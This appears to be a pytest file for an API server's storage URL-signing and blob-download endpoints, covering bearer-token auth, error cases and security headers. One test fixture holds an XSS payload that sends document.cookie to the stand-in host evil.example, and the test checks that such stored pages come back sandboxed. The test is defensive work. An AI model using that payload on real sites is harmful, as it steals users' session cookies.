"""`<api_server>/storage.sign_url` over HTTP: the bearer token from auth.login, ClearML envelopes, a link that
a plain HTTP GET turns into the object's bytes (moto's S3 server on loopback)."""

from __future__ import annotations

import httpx
import pytest
from fastapi.testclient import TestClient

from profile_app.api import create_api
from profile_app.services import accounts, cloud_access, credentials
from profile_app.services.cloud_access import S3_COMPATIBLE, CloudAccessInput
from tests.conftest import random_password
from tests.moto_s3 import BUCKET, OBJECT_BYTES, OBJECT_KEY, start_s3_server, stop_s3_server


@pytest.fixture(scope="module")
def s3_server():
    server = start_s3_server()
    yield server
    stop_s3_server(server)


@pytest.fixture
def client(database) -> TestClient:
    return TestClient(create_api())


def _token(client: TestClient, user_id: int) -> str:
    created = credentials.create_credentials(user_id)
    response = client.post("/api/auth.login", auth=(created.access_key, created.secret_key))
    assert response.status_code == 200, response.text
    return response.json()["data"]["token"]


def test_sign_url_with_bearer_token(client, s3_server):
    user_id = accounts.sign_up("Ada", "ada@example.com", random_password())
    cloud_access.add_cloud_access(
        user_id,
        CloudAccessInput(
            provider=S3_COMPATIBLE,
            bucket=BUCKET,
            key=s3_server.access_key,
            secret=s3_server.secret_key,
            host=s3_server.endpoint,
        ),
    )
    headers = {"Authorization": f"Bearer {_token(client, user_id)}"}
    storage_url = f"s3://{s3_server.endpoint.split('://', 1)[1]}/{BUCKET}/{OBJECT_KEY}"

    response = client.post("/api/storage.sign_url", json={"url": storage_url, "expires_in": 120}, headers=headers)
    assert response.status_code == 200, response.text
    data = response.json()["data"]
    assert data["key"] == OBJECT_KEY and data["expires"]
    assert s3_server.secret_key not in response.text
    with s3_server.auth_off():
        assert httpx.get(data["url"]).content == OBJECT_BYTES

    by_get = client.get("/api/v2.23/storage.sign_url", params={"url": storage_url}, headers=headers)
    assert by_get.status_code == 200
    assert by_get.json()["meta"]["endpoint"]["name"] == "storage.sign_url"


def test_sign_url_errors(client):
    user_id = accounts.sign_up("Bob", "bob@example.com", random_password())
    missing = client.post("/api/storage.sign_url", json={"url": "s3://bucket/key"})
    assert missing.status_code == 401
    assert missing.json()["meta"]["result_subcode"] == 20
    headers = {"Authorization": f"Bearer {_token(client, user_id)}"}
    no_match = client.post("/api/storage.sign_url", json={"url": "s3://some-bucket/key"}, headers=headers)
    assert no_match.status_code == 400
    assert "None of your Cloud access rows matches bucket 'some-bucket'" in no_match.json()["meta"]["result_msg"]
    not_storage = client.post("/api/storage.sign_url", json={"url": "mailto:someone"}, headers=headers)
    assert not_storage.status_code == 400
    assert "not a storage URL" in not_storage.json()["meta"]["result_msg"]
    no_url = client.post("/api/storage.sign_url", json={}, headers=headers)
    assert no_url.status_code == 400


class FakeDownload:
    """What signing.open_blob_link hands the route: an open upstream response."""

    def __init__(self, content_type: str, body: bytes, filename: str):
        self.status_code, self.content_type, self.content_length = 200, content_type, str(len(body))
        self.filename, self.body, self.closed = filename, body, False

    async def chunks(self):
        yield self.body

    async def aclose(self):
        self.closed = True


@pytest.mark.parametrize(
    ("content_type", "filename", "inline"),
    [
        ("text/html", "page.html", False),
        ("image/svg+xml", "drawing.svg", False),
        ("application/pdf", "report.pdf", False),
        ("image/png", "plot.png", True),
        ("video/mp4", "run.mp4", True),
    ],
)
def test_blob_link_cannot_run_a_stored_page_in_our_origin(client, monkeypatch, content_type, filename, inline):
    """Anyone can put an HTML (or SVG) blob in their own container and send its link to a victim: the page comes
    back sandboxed, unsniffed and as a download (pictures, sound and video still open in the browser)."""
    from profile_app.services import signing

    page = b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"
    download = FakeDownload(content_type, page, filename)

    async def fake_open(token):
        return download

    monkeypatch.setattr(signing, "open_blob_link", fake_open)
    response = client.get("/api/storage.blob", params={"token": "t"})
    assert response.status_code == 200
    assert response.content == download.body
    assert response.headers["content-security-policy"].split(";")[0].strip() == "sandbox"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["referrer-policy"] == "no-referrer"
    assert response.headers["cache-control"] == "private, no-store"
    disposition = response.headers.get("content-disposition", "")
    if inline:
        assert disposition == ""
    else:
        assert disposition.startswith(f'attachment; filename="{filename}"')
    assert download.closed
